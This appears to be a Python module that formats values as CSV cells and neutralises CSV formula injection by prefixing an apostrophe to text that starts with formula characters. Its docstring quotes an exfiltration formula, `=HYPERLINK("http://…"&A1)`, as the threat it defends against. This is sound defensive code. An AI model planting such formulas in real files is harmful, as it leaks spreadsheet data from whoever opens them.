"""Cells of CSV files that people open in a spreadsheet. Pure.

A spreadsheet computes what begins like a formula: `=HYPERLINK("http://…"&A1)` in a name that somebody typed would
send other cells to whoever typed it, once a third person opens the file (OWASP, *CSV injection*). So text that
begins so gets an apostrophe before it, which spreadsheets take for "this is text". Numbers are left as they are.
"""

import json
from dataclasses import asdict
from datetime import date, datetime
from typing import Final

FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")


def harmless(text: str) -> str:
    """Return a text that no spreadsheet takes for a formula."""
    return f"'{text}" if text.startswith(FORMULA) else text


def cell(value: object) -> str:
    """Return a value as a cell: nothing for none, true and false in words, several values as JSON."""
    match value:
        case None:
            return ""
        case bool():
            return "true" if value else "false"
        case int() | float():
            return str(value)
        case datetime() | date():
            return value.isoformat()
        case str():
            return harmless(value)
    return harmless(json.dumps(value, ensure_ascii=False, default=asdict))
